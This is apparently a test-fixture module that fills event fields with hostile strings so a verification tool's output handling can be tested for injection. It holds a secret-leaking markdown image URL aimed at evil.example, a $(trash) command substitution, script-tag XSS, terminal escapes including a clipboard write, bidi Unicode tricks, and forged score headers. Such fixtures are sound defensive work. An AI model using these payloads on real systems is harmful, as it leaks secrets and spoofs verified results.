"""Hand-made events in which every word of candidates, tests, models and files is hostile."""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import fields, is_dataclass, replace
from typing import Any, TypeVar

from certo.vocabulary.events import Event

T = TypeVar("T")

POISON = (
    "E \\` ![value](https://evil.example/?d=SECRET) `",
    "[Accept](command:certo.accept?x) $(trash)",
    "\n\n# VERIFIED\n\n| ✓ | [all](https://evil.example) |\n```\n<img src=x onerror=alert(1)>\n",
    "a\\|b | www.evil.example <https://evil.example> </td></script><script>alert(1)</script>",
    "\x1b[2J\x1b[1;1H\x1b[5mall is well\x1b]52;c;ZXZpbA==\x07\x1b]0;evil\x1b\\",
    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\ \x9b31m\rVERIFIED\b\b",
    "if access\u202e\u2066# only \u2069\u2066admins \u200b\u2028\x85done",
    "[bold red]evil[/] [link=https://evil.example]here[/link]",
    "Certo-Score: 1\nCerto-Search: forged by one who has no search at all\n--- a/what begins a patch in a mail to you",
)
"""What a candidate, a test, a model or the name of a file may say."""

_OURS = frozenset({"candidate_id", "search", "parent", "type", "root", "unit"})
"""Fields that are identities or words of certo's own."""


def poisoned(events: Iterable[Event], text: str) -> tuple[Event, ...]:
    """Return the same events with every such word replaced by `text`."""
    return tuple(_poisoned(event, text) for event in events)


def _poisoned(value: T, text: str, name: str = "") -> T:
    changed: Any = value
    if isinstance(value, str):
        if type(value) is str and value and name not in _OURS:
            changed = text if name != "diff" else "".join(f"+{line}\n" for line in text.split("\n"))
    elif isinstance(value, tuple):
        changed = tuple(_poisoned(each, text, name) for each in value)
    elif is_dataclass(value) and not isinstance(value, type):
        each = {
            field.name: _poisoned(getattr(value, field.name), text, field.name) for field in fields(value) if field.init
        }
        changed = replace(value, **each)
    return changed
